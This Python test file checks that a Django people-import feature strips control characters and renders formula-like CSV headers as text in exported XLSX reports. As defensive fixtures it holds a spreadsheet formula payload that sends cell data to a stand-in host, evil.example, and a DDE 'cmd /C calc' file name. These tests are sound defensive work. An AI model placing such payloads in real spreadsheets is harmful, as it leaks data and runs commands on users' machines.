"""Imported text is normalised like every text that comes in (kejia.core.text), and the report
spreadsheet is written through the one cell writer (kejia.core.sheets): a control character in a
cell is not stored and breaks no export; a header such as =HYPERLINK(…) is text in the report."""

import io

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from kejia.imports import services, workbooks
from kejia.imports.models import BatchStatus
from kejia.imports.tests.sheets import HEADERS, csv_bytes, row
from kejia.people.models import Person

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def run(tree, content):
    batch = services.start_import(tree.xw, actor=tree.county_staff, file_name="people.csv", content=content, mode="good", background=False)
    batch.refresh_from_db()
    return batch


def test_import_strips_control_characters_and_normalises_cells(tree):
    data = [row(1, 姓名="李\x01明\x1b"), row(2, 专业特长="机器\x07学习", 工作单位="Cafe\u0301")]
    batch = run(tree, csv_bytes(data))
    assert batch.status == BatchStatus.DONE and batch.created_count == 2, batch.report
    people = {p.name: p for p in Person.objects.all()}
    assert "李明" in people
    other = next(p for name, p in people.items() if name != "李明")
    assert other.expertise == "机器学习" and other.employer_name == "Caf\u00e9"  # NFC


def test_import_refuses_a_name_with_a_direction_override(tree):
    batch = run(tree, csv_bytes([row(1, 姓名="李\u202e明"), row(2, 姓名="王\u200b芳")]))
    assert batch.created_count == 0 and batch.bad == 2
    assert all(e["column"] == "姓名" for e in batch.report if e["level"] == "error")


def test_import_report_keeps_a_formula_header_as_text(client, tree):
    batch = run(tree, csv_bytes([{**row(1), FORMULA: "x", "\x1b备注": "y"}], [*HEADERS, FORMULA, "\x1b备注"]))
    assert batch.status == BatchStatus.DONE and batch.created_count == 1
    client.force_login(tree.county_staff)
    response = client.get(reverse("imports:report", args=[batch.pk]))
    assert response.status_code == 200
    cells = [c for r in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows() for c in r]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    columns = {c.value for c in cells if c.column == 2}
    assert "'" + FORMULA in columns and "备注" in columns


def test_import_report_of_stored_control_characters_opens(tree):
    """Reports written before input was normalised may hold control characters: the writer drops them."""
    batch = run(tree, csv_bytes([row(1)]))
    batch.report = [{"row": 2, "column": "\x01姓名", "reason": "bad\x1b", "level": "error"}]
    batch.file_name = "=cmd|' /C calc'!A0\x07.csv"
    rows = list(load_workbook(io.BytesIO(workbooks.report_xlsx(batch))).worksheets[0].values)
    assert rows[1][:3] == (2, "姓名", "bad")


def test_api_import_report_xlsx_with_formula_header(tree):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = Client()
    token = client.post("/api/auth/token", {"identifier": tree.county_staff.username, "password": tree.password}, content_type="application/json").json()[
        "token"
    ]
    headers = {"Authorization": f"Bearer {token}"}
    content = csv_bytes([{**row(1), FORMULA: "x"}], [*HEADERS, FORMULA])
    body = client.post("/api/imports", {"organization_id": tree.xw.pk, "mode": "good", "file": SimpleUploadedFile("p.csv", content)}, headers=headers).json()
    response = client.get(f"/api/imports/{body['id']}/report", {"format": "xlsx"}, headers=headers)
    cells = [c for r in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows() for c in r]
    assert all(c.data_type != "f" for c in cells) and "'" + FORMULA in {c.value for c in cells}
